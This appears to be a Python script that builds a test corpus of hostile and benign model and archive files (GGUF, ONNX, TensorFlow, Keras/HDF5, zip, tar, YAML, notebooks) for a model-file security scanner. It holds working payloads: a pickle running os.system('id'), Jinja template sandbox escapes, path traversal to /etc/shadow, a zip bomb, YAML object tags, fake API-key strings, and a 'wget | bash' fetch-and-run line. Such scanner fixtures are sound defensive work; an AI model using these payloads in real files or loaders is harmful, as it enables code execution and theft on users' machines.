"""Hostile and ordinary files of the formats that are no pickles, written from their specifications and by other makers' libraries, and not looked at while
the rules were written: hostile_FORMAT_what must be blocked, benign_FORMAT_what must pass."""
import bz2, gzip, io, json, lzma, os, random, struct, sys, tarfile, zipfile, zlib
import h5py, numpy as np, onnx
from onnx import helper, TensorProto, numpy_helper

out = sys.argv[1]
chance = random.Random(11)


def put(kind, form, what, data, ending=""):
    with open(os.path.join(out, f"{kind}_{form}_{what}{ending}"), "wb") as f:
        f.write(data)


bad = lambda form, what, data, ending="": put("hostile", form, what, data, ending)
good = lambda form, what, data, ending="": put("benign", form, what, data, ending)
PICKLE = b"\x80\x04\x95\x1d\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94."

# --- GGUF -----------------------------------------------------------------------------------------------------------------------------------------


def s(text):
    raw = text if isinstance(text, bytes) else text.encode()
    return struct.pack("<Q", len(raw)) + raw


def gguf(pairs, tensors=(), version=3, pair_count=None, tensor_count=None, data=b"", pad=True):
    body = b"GGUF" + struct.pack("<IQQ", version, len(tensors) if tensor_count is None else tensor_count, len(pairs) if pair_count is None else pair_count)
    body += b"".join(s(k) + struct.pack("<I", t) + v for k, t, v in pairs)
    body += b"".join(s(n) + struct.pack("<I", len(shape)) + b"".join(struct.pack("<Q", d) for d in shape) + struct.pack("<IQ", t, o) for n, shape, t, o in tensors)
    if tensors and pad:
        body += bytes(-len(body) % 32)
    return body + data


arch = ("general.architecture", 8, s("llama"))
tmpl = lambda text: gguf([arch, ("tokenizer.chat_template", 8, s(text))])
for i, text in enumerate([
    "{% for m in messages %}{{ m['content'] }}{% endfor %}",
    "{%- if messages[0]['role'] == 'system' -%}{{ messages[0]['content'] | trim }}{%- endif -%}{% for message in messages %}{{ '<|' + message['role'] + '|>' + message['content'] + eos_token }}{% endfor %}{% if add_generation_prompt %}{{ '<|assistant|>' }}{% endif %}",
    "{{ bos_token }}{% set ns = namespace(found=false) %}{% for m in messages %}{% if m.role == 'user' %}{% set ns.found = true %}[INST] {{ m.content }} [/INST]{% else %}{{ m.content }}{% endif %}{% endfor %}",
]):
    good("gguf", f"template{i}", tmpl(text))
good("gguf", "tensor", gguf([arch], [("w", [32, 2], 0, 0)], data=bytes(256)))
for i, text in enumerate([
    "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{{ self.__init__.__globals__ }}", "{{ messages|attr('__class__') }}", "{{ lipsum.__globals__.os.popen('id').read() }}",
    "{{ cycler.__init__.__globals__.os }}", "{{ joiner.__init__ }}", "{{ request.application }}", "{{ config.items() }}", "{{ get_flashed_messages.__globals__ }}",
    "{{ ''['__cla'+'ss__'] }}", "{{ ''[['__class','__']|join] }}", "{{ (messages|string)['%c%c' % (95, 95)] }}", "{{ ''|attr(\"\\x5f\\x5fclass\\x5f\\x5f\") }}", "{{ ''['\\u005f\\u005fclass__'] }}",
    "{% import 'os' as o %}{{ o }}", "{% from 'x' import y %}", "{% extends '/etc/passwd' %}", "{% set x = ().__class__ %}{{ x }}", "{% call(x) messages.pop() %}{% endcall %}",
    "{{ messages | map(attribute='__class__') | list }}", "{{ [messages] | sort(attribute='__doc__') }}", "{{ [messages] | groupby('__class__') }}", "{{ [''] | sum(attribute='__class__') }}", "{{ '%s' | format(x) | attr(y) }}",
    "{{ '{0.__class__}'.format(messages) }}", "{{ '{0.__class__}'.format_map(messages) }}", "{% for k in messages.__dict__ %}{% endfor %}", "{{ messages.append.__self__ }}", "{{ range.__call__(9) }}",
    "{% filter attr('__class__') %}{{ x }}{% endfilter %}", "{% trans %}x{% endtrans %}", "{% autoescape false %}{{ x }}{% endautoescape %}", "{{ ''.__class__", "{% debug %}", "{% do messages.clear() %}",
    "{{ raise_exception.__globals__['__builtins__'] }}", "{{ strftime_now.__code__ }}", "{{ messages[0].content.__getattribute__('x') }}", "{% macro a() %}{{ a.__globals__ }}{% endmacro %}",
]):
    bad("gguf", f"template{i}", tmpl(text))
bad("gguf", "named-template", gguf([arch, ("tokenizer.chat_template.tool_use", 8, s("{{ ''.__class__ }}"))]))
bad("gguf", "second-template", gguf([("tokenizer.chat_template", 8, s("x")), ("tokenizer.chat_template", 8, s("{{ ''.__class__ }}"))]))
bad("gguf", "count-pairs", gguf([arch], pair_count=2))
bad("gguf", "count-huge", gguf([arch], pair_count=1 << 62))
bad("gguf", "tensor-huge", gguf([arch], [("w", [1 << 33, 1 << 33], 0, 0)], data=bytes(64)))
bad("gguf", "tensor-dims", gguf([arch], [("w", [1] * 9, 0, 0)], data=bytes(64)))
bad("gguf", "tensor-outside", gguf([arch], [("w", [32], 0, 1 << 40)], data=bytes(128)))
bad("gguf", "tensor-wraps", gguf([arch], [("w", [32], 0, (1 << 64) - 32)], data=bytes(128)))
bad("gguf", "tensor-type", gguf([arch], [("w", [32], 999, 0)], data=bytes(128)))
bad("gguf", "array-depth", gguf([("a", 9, struct.pack("<IQ", 9, 1) * 40 + struct.pack("<IQ", 4, 0))]))
bad("gguf", "array-length", gguf([("a", 9, struct.pack("<IQ", 4, 1 << 61))]))
bad("gguf", "string-length", gguf([("a", 8, struct.pack("<Q", 1 << 63) + b"x")]))
bad("gguf", "tail-pickle", gguf([arch], [("w", [32], 0, 0)], data=bytes(128) + PICKLE))
bad("gguf", "tail-zip", gguf([arch]) + b"PK\5\6" + bytes(18))
bad("gguf", "padding", gguf([arch], [("w", [1], 0, 0), ("v", [1], 0, 32)], data=b"\0\0\0\0" + b"#!/bin/sh\nid\nxxxxxxxxxxxxxxx"[:28] + bytes(4)))
bad("gguf", "alignment-zero", gguf([("general.alignment", 4, struct.pack("<I", 0))], [("w", [32], 0, 0)], data=bytes(128)))

# --- ONNX -----------------------------------------------------------------------------------------------------------------------------------------


def model(nodes, initializers=(), opsets=(("", 15),), **more):
    x, y = (helper.make_tensor_value_info(n, TensorProto.FLOAT, [1, 4]) for n in "xy")
    m = helper.make_model(helper.make_graph(nodes, "g", [x], [y], list(initializers)), opset_imports=[helper.make_opsetid(*o) for o in opsets], **more)
    m.ir_version = 8
    return m


def external(location, **entries):
    t = TensorProto(name="w", data_type=1, dims=[4], data_location=1)
    for k, v in dict(entries, location=location).items():
        t.external_data.add(key=k, value=v)
    return t


add = helper.make_node("Add", ["x", "w"], ["y"])
good("onnx", "add", model([add], [numpy_helper.from_array(np.ones(4, "f4"), "w")]).SerializeToString())
good("onnx", "if", model([helper.make_node("Constant", [], ["c"], value=helper.make_tensor("v", TensorProto.BOOL, [], [True])), helper.make_node("If", ["c"], ["y"], **{
    b: helper.make_graph([helper.make_node("Relu", ["x"], ["z"])], b, [], [helper.make_tensor_value_info("z", 1, [1, 4])]) for b in ("then_branch", "else_branch")})]).SerializeToString())
for i, location in enumerate(["../../../etc/shadow", "/proc/self/environ", "\\\\host\\share\\w", "a/../../b", "C:\\w.bin", "https://example.org/w", "~root/w", "w.bin\0.txt", "*/_ORT_MEM_ADDR_/*", "", ".", "..", "w/", "nowhere.bin"]):
    bad("onnx", f"external{i}", model([add], [external(location)]).SerializeToString())
bad("onnx", "external-negative", model([add], [external("w.bin", offset="-4")]).SerializeToString())
bad("onnx", "external-sparse", model([helper.make_node("Constant", [], ["y"], value=external("/etc/passwd"))]).SerializeToString())
for i, domain in enumerate(["ai.onnx.contrib", "com.evil", "org.pytorch.aten", "ai.onnx.preview.training", "AI.ONNX", "com.microsoft.nchwc2", " "]):
    bad("onnx", f"domain{i}", model([helper.make_node("PyOp", ["x"], ["y"], domain=domain)], opsets=(("", 15), (domain, 1))).SerializeToString())
plain = model([helper.make_node("Relu", ["x"], ["y"])]).SerializeToString()
deep = helper.make_node("Custom", ["x"], ["z"], domain="evil")
bad("onnx", "in-branch", model([helper.make_node("Constant", [], ["c"], value=helper.make_tensor("v", TensorProto.BOOL, [], [True])), helper.make_node("If", ["c"], ["y"], **{
    b: helper.make_graph([deep], b, [], [helper.make_tensor_value_info("z", 1, [1, 4])]) for b in ("then_branch", "else_branch")})], opsets=(("", 15), ("evil", 1))).SerializeToString())
fn = helper.make_function("evil", "F", ["x"], ["z"], [helper.make_node("Run", ["x"], ["z"], domain="more")], [helper.make_opsetid("", 15), helper.make_opsetid("more", 1)])
bad("onnx", "in-function", model([helper.make_node("F", ["x"], ["y"], domain="evil")], opsets=(("", 15), ("evil", 1), ("more", 1)), functions=[fn]).SerializeToString())
shadow = helper.make_function("", "Relu", ["x"], ["z"], [helper.make_node("Tanh", ["x"], ["z"])], [helper.make_opsetid("", 15)])
bad("onnx", "shadow", model([helper.make_node("Relu", ["x"], ["y"])], functions=[shadow]).SerializeToString())
bad("onnx", "two-graphs", plain + b"\x3a\x02\x0a\x00")
bad("onnx", "tail", plain + PICKLE)
bad("onnx", "cut", plain[:-1])
secret = model([helper.make_node("Relu", ["x"], ["y"])])
secret.metadata_props.add(key="k", value="AKIA" + "Q" * 16)
bad("onnx", "secret", secret.SerializeToString())

# --- TensorFlow -----------------------------------------------------------------------------------------------------------------------------------


def varint(n):
    r = b""
    while n > 127:
        r, n = r + bytes([n & 127 | 128]), n >> 7
    return r + bytes([n])


m = lambda field, raw: varint(field << 3 | 2) + varint(len(raw)) + raw
t = lambda field, text: m(field, text.encode())
node = lambda op, name="n": m(1, t(1, name) + t(2, op))
saved = lambda graph, more=b"": b"\x08\x01" + m(2, m(1, t(4, "serve")) + m(2, graph + m(4, b"\x08\x01")) + more)
function = lambda name, *ops: m(2, m(1, m(1, t(1, name)) + b"".join(m(3, t(1, "n") + t(2, o)) for o in ops)))
good("tensorflow", "plain", saved(node("Placeholder") + node("Const", "c") + node("MatMul", "m")), ".pb")
good("tensorflow", "function", saved(node("PartitionedCall") + function("__inference_f", "Identity", "Relu")), ".pb")
for op in ["ReadFile", "WriteFile", "MatchingFiles", "PyFunc", "PyFuncStateless", "EagerPyFunc", "LoadDataset", "SaveDataset", "SaveDatasetV2", "FixedLengthRecordDataset", "FixedLengthRecordDatasetV2", "TextLineDataset", "TFRecordDatasetV2", "WholeFileReaderV2",
           "TextLineReaderV2", "ReaderReadV2", "PrintV2", "DebugIdentityV3", "DumpTensor", "RpcServer", "RemoteCall", "XlaHostCompute", "FileSystemSetConfiguration", "OneShotIterator", "SummaryWriter", "CreateSummaryFileWriter", "LoadLibrary2",
           "InitializeTableFromTextFileV2", "ImmutableConst", "DecodeAndCropJpeg2", "MapAndBatchDataset", "GeneratorDataset", "WriteGraphSummary", "AsString;ReadFile", "readFile", "ReadFile\0"]:
    bad("tensorflow", op.lower().replace("\0", "0").replace(";", "-") + ("-lower" if op == "readFile" else ""), saved(node("Const") + node(op, "x")), ".pb")
bad("tensorflow", "in-function", saved(node("PartitionedCall") + function("__inference_f", "ReadFile")), ".pb")
bad("tensorflow", "second-meta", saved(node("Const")) + m(2, m(2, node("WriteFile"))), ".pb")
bad("tensorflow", "asset", saved(node("Const"), m(6, m(1, t(1, "a")) + t(2, "../../../x"))), ".pb")
bad("tensorflow", "cut", saved(node("Const"))[:-2], ".pb")
bad("tensorflow", "frozen", node("Const") + node("EagerPyFunc", "x"), ".pb")

# --- Keras and HDF5 -------------------------------------------------------------------------------------------------------------------------------
dense = {"module": "keras.layers", "class_name": "Dense", "config": {"name": "d", "units": 2, "activation": "relu"}, "registered_name": None}
keras = lambda *layers, **more: dict({"module": "keras", "class_name": "Sequential", "config": {"name": "s", "layers": list(layers)}, "registered_name": None}, **more)


def archive(config, *more, method=zipfile.ZIP_STORED):
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w", method) as z:
        z.writestr("metadata.json", json.dumps({"keras_version": "3.6.0", "date_saved": "2025-01-01@00:00:00"}))
        z.writestr("config.json", config if isinstance(config, (str, bytes)) else json.dumps(config))
        for name, data in more:
            z.writestr(name, data)
    return b.getvalue()


def h5(**attributes):
    b = io.BytesIO()
    with h5py.File(b, "w") as f:
        for k, v in attributes.items():
            f.attrs[k] = v
        f.create_dataset("w/kernel:0", data=np.ones((2, 2), "f4"))
    return b.getvalue()


good("keras", "dense", archive(keras(dense)), ".keras")
good("keras", "deflated", archive(keras(dense), method=zipfile.ZIP_DEFLATED), ".keras")
good("hdf5", "weights", h5(backend="tensorflow"), ".h5")
layer = lambda **k: dict({"module": "keras.layers", "class_name": "Dense", "config": {"name": "d"}, "registered_name": None}, **k)
hostile_layers = [
    layer(class_name="Lambda"), layer(module="keras.src.layers.core.lambda_layer", class_name="Lambda"), layer(class_name="keras.layers.Lambda"), layer(class_name="__lambda__"), layer(module="os", class_name="system"), layer(module="subprocess", class_name="Popen"),
    layer(module="builtins", class_name="eval"), layer(module="keras.utils", class_name="get_file"), layer(module="keras.src.saving.serialization_lib", class_name="deserialize_keras_object"), layer(module="keras.ops", class_name="Numpy2"),
    layer(class_name="TorchModuleWrapper"), layer(class_name="FlaxLayer"), layer(class_name="JaxLayer"), layer(class_name="TFSMLayer"), layer(registered_name="a>b"), layer(module=None, class_name="Mine", registered_name="Mine"),
    layer(config={"activation": {"class_name": "function", "module": "os", "config": "system", "registered_name": "system"}}), layer(config={"activation": {"class_name": "__lambda__", "config": {"value": "4wE="}}}),
    layer(config={"kernel_initializer": {"module": "keras.src.initializers.initializer", "class_name": "exec", "config": {}}}), layer(config={"name": "d", "dtype": {"module": "importlib", "class_name": "import_module", "config": {"name": "os"}}}),
]
for i, item in enumerate(hostile_layers):
    bad("keras", f"layer{i}", archive(keras(dense, item)), ".keras")
    bad("hdf5", f"layer{i}", h5(model_config=json.dumps(keras(dense, item))), ".h5")
bad("keras", "compile", archive(keras(dense, compile_config={"optimizer": {"module": "pty", "class_name": "spawn", "config": {}}})), ".keras")
bad("keras", "entry-pickle", archive(keras(dense), ("assets/x.bin", PICKLE)), ".keras")
bad("keras", "entry-up", archive(keras(dense), ("../../x", "x")), ".keras")
bad("keras", "weights-h5", archive(keras(dense), ("model.weights.h5", h5(model_config=json.dumps(keras(hostile_layers[0]))))), ".keras")
bad("keras", "config-tail", archive(json.dumps(keras(dense)) + json.dumps(keras(hostile_layers[0]))), ".keras")
bad("keras", "config-nan", archive('{"module":"keras","class_name":"Sequential","config":{"layers":[]},"class_name":"Lambda"}'), ".keras")
bad("hdf5", "training-config", h5(model_config=json.dumps(keras(dense)), training_config=json.dumps({"loss": {"module": "os", "class_name": "system", "config": {}}})), ".h5")
bad("hdf5", "array-config", h5(model_config=np.array([json.dumps(keras(hostile_layers[0]))], dtype=h5py.string_dtype())), ".h5")
bad("hdf5", "secret", h5(note="hf_" + "a" * 34), ".h5")
raw = bytearray(h5(model_config=json.dumps(keras(dense))))
for i in range(11):
    changed = bytearray(raw)
    at = [8, 9, 10, 13, 14, 24, 40, 41, 64, 65, 66][i]
    changed[at] ^= 0xFF
    bad("hdf5", f"superblock{at}", bytes(changed), ".h5")
bad("hdf5", "tail", bytes(raw) + PICKLE, ".h5")
bad("hdf5", "prefix", b"text\n" * 102 + b"xx" + h5(model_config=json.dumps(keras(hostile_layers[0]))), ".h5")

# --- zip, tar and streams -------------------------------------------------------------------------------------------------------------------------


def zipped(*entries, method=zipfile.ZIP_DEFLATED, comment=b""):
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w", method) as z:
        z.comment = comment
        for name, data in entries:
            z.writestr(name, data)
    return b.getvalue()


good("zip", "texts", zipped(("a/b.txt", "a"), ("c.json", "{}")), ".zip")
whole = zipped(("a.txt", "hello"), ("b.txt", "world"))
for i, name in enumerate(["../x", "/x", "a/../../x", "C:/x", "a\\..\\x", "a//b", "./a", "a\x01b"]):
    bad("zip", f"name{i}", zipped((name, "x")), ".zip")
bad("zip", "pickle", zipped(("README.md", PICKLE)), ".zip")
bad("zip", "pickle-stored", zipped(("x.txt", PICKLE), method=zipfile.ZIP_STORED), ".zip")
bad("zip", "elf", zipped(("libx.so", b"\x7fELF" + bytes(60))), ".zip")
bad("zip", "case", zipped(("A.txt", "a"), ("a.txt", "b")), ".zip")
bad("zip", "comment", zipped(("a.txt", "a"), comment=b"x" * 40), ".zip")
bad("zip", "prefix", b"#!/bin/sh\n" + whole, ".zip")
bad("zip", "tail", whole + PICKLE, ".zip")
bad("zip", "twice", whole + whole, ".zip")
bad("zip", "bzip2", zipped(("a.txt", "a" * 100), method=zipfile.ZIP_BZIP2), ".zip")
bad("zip", "lzma", zipped(("a.txt", "a" * 100), method=zipfile.ZIP_LZMA), ".zip")
bad("zip", "bomb", zipped(("a.txt", bytes(200_000_000))), ".zip")
central = whole.index(b"PK\1\2")
for what, at, value in [("method", central + 10, b"\0\0"), ("flags", central + 8, b"\1\0"), ("crc", central + 16, b"\1\2\3\4"), ("size", central + 24, b"\xff\0\0\0"), ("packed", central + 20, b"\1\0\0\0"), ("offset", central + 42, b"\5\0\0\0"), ("name", central + 46, b"b"),
                        ("disk", central + 34, b"\1\0"), ("local-crc", 14, b"\1\2\3\4"), ("local-size", 22, b"\xff\xff\0\0"), ("local-method", 8, b"\x63\0"), ("local-name", 30, b"z"), ("local-extra", 28, b"\4\0"), ("content", 36, b"\xff")]:
    changed = bytearray(whole)
    changed[at:at + len(value)] = value
    bad("zip", "changed-" + what, bytes(changed), ".zip")


def tarred(*entries, form=tarfile.USTAR_FORMAT, mode="w"):
    b = io.BytesIO()
    with tarfile.open(fileobj=b, mode=mode, format=form) as z:
        for name, data, more in entries:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            for k, v in more.items():
                setattr(info, k, v)
            z.addfile(info, io.BytesIO(data) if data else None)
    return b.getvalue()


plain_tar = tarred(("a.txt", b"hello", {}))
good("tar", "ustar", plain_tar, ".tar")
good("tar", "pax", tarred(("a/" + "n" * 150 + ".txt", b"hello", {}), form=tarfile.PAX_FORMAT), ".tar")
good("tar", "gnu", tarred(("a/" + "n" * 150 + ".txt", b"hello", {}), form=tarfile.GNU_FORMAT), ".tar")
for what, kind in [("symlink", tarfile.SYMTYPE), ("hardlink", tarfile.LNKTYPE), ("char", tarfile.CHRTYPE), ("block", tarfile.BLKTYPE), ("fifo", tarfile.FIFOTYPE)]:
    bad("tar", what, tarred(("x", b"", {"type": kind, "linkname": "/etc/passwd"})), ".tar")
for i, name in enumerate(["../x", "a/../../x", "/etc/x", "a\\b"]):
    bad("tar", f"name{i}", tarred((name, b"x", {})), ".tar")
bad("tar", "pickle", tarred(("w.txt", PICKLE, {})), ".tar")
bad("tar", "twice", tarred(("a", b"x", {}), ("a", PICKLE, {})), ".tar")
bad("tar", "pax-path", tarred(("a", b"x", {"pax_headers": {"path": "../../x"}}), form=tarfile.PAX_FORMAT), ".tar")
bad("tar", "pax-size", tarred(("a", b"x", {"pax_headers": {"size": "99999999"}}), form=tarfile.PAX_FORMAT), ".tar")
bad("tar", "pax-link", tarred(("a", b"", {"type": tarfile.SYMTYPE, "linkname": "n" * 150}), form=tarfile.PAX_FORMAT), ".tar")
bad("tar", "checksum", plain_tar[:100] + b"7" + plain_tar[101:], ".tar")
bad("tar", "tail", plain_tar + PICKLE, ".tar")
bad("tar", "padding", plain_tar[:600] + b"#!/bin/sh" + plain_tar[609:], ".tar")
bad("tar", "gz-pickle", gzip.compress(tarred(("w", PICKLE, {}))), ".tgz")
for what, pack in [("gz", gzip.compress), ("bz2", bz2.compress), ("xz", lzma.compress), ("zlib", zlib.compress), ("lzma", lambda d: lzma.compress(d, lzma.FORMAT_ALONE))]:
    bad("stream", what + "-pickle", pack(PICKLE))
    bad("stream", what + "-tail", pack(b"hello " * 100) + PICKLE)
    bad("stream", what + "-cut", pack(bytes(chance.randrange(97, 122) for _ in range(5000)))[:-9])
    bad("stream", what + "-twice", pack(pack(zipped(("a", PICKLE)))))
    good("stream", what + "-text", pack(b"hello world\n" * 100))

# --- text -----------------------------------------------------------------------------------------------------------------------------------------
good("text", "readme", b"# Model\nUse `pip install x`. os.system is not called.\n", ".md")
good("text", "config", json.dumps({"architectures": ["Bert"], "hidden_size": 768}).encode(), ".json")
good("text", "yaml", b"a: 1\nb: [x, y]\n", ".yaml")
for i, tag in enumerate(["!!python/object/apply:os.system [id]", "!!python/object/new:subprocess.Popen [[id]]", "!!python/name:os.system", "!!python/module:os", "!<tag:yaml.org,2002:python/object/apply:os.system> [id]", "!!python/object:__main__.X {}"]):
    bad("text", f"yaml{i}", f"a: {tag}\n".encode(), ".yaml")
bad("text", "yaml-tag-directive", b"%TAG !e! tag:yaml.org,2002:python/\n---\na: !e!object/apply:os.system [id]\n", ".yaml")
for i, key in enumerate(["AKIA" + "Z" * 16, "ASIA" + "Z" * 16, "ghp_" + "a" * 36, "gho_" + "a" * 36, "hf_" + "b" * 34, "glpat-" + "c" * 20, "xoxb-" + "1" * 24, "AIza" + "d" * 35, "sk_live_" + "e" * 24, "npm_" + "f" * 36, "-----BEGIN OPENSSH PRIVATE KEY-----", "-----BEGIN EC PRIVATE KEY-----"]):
    bad("text", f"secret{i}", f"key = {key}\n".encode(), ".txt")
for i, target in enumerate(["os.system", "subprocess.Popen", "builtins.eval", "importlib.import_module"]):
    bad("text", f"hydra{i}", f"model:\n  _target_: {target}\n".encode(), ".yaml")
for i, script in enumerate([b"#!/usr/bin/env python3\n", b"#!/bin/sh\n", b"#! /bin/bash\n"]):
    bad("text", f"script{i}", script + b"id\n", ".md")
for i, text in enumerate([b"cos\nsystem\n(S'id'\ntR.", b"(S'id'\nios\nsystem\n.", b"cposix\nsystem\np0\n(S'id'\np1\ntp2\nRp3\n.", b"(cos\nsystem\nS'id'\no.", b"S'a'\n0cos\nsystem\n(S'id'\ntR."]):
    bad("text", f"pickle{i}", text, ".txt")
bad("text", "zero", b"hello\0world", ".txt")
bad("text", "utf16", "hello".encode("utf-16"), ".txt")
bad("text", "notebook", json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [{"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None, "source": ["!wget -qO- http://x/y | bash\n"]}]}).encode(), ".ipynb")
